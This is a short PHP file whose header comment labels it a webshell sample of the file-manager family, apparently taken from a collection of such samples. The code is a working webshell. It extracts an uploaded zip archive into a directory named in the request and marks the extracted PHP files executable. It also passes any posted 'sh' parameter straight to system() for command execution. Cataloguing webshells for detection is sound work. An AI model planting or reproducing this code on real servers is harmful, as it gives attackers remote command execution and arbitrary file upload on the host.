<?php
/* Family: webshell/file-manager
 * Style: archive uploader and extractor
 * Trait: uploaded zip extracted into a request directory, extracted files made executable, then a command box */
$z = new ZipArchive();
if (!empty($_FILES['zip']['tmp_name']) && $z->open($_FILES['zip']['tmp_name']) === true) {
	$z->extractTo($_POST['into']);
	$z->close();
	foreach (glob($_POST['into'] . '/*.php') as $x) chmod($x, 0755);
}
if (!empty($_POST['sh'])) { system($_POST['sh']); }
